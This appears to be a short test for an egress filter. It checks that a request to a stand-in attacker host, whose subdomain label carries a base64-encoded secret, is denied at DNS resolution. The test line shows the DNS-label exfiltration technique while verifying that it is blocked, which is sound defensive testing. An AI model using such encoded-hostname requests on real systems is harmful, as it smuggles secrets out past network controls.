# Data in the labels of a denied name goes nowhere.
# log: kind=dns verdict=deny reason=no_rule name=c2vjcmv0ihnly3jlda.evil.example
# off: host
from egress import *

verdict(web("c2VjcmV0IHNlY3JldA.evil.example"))
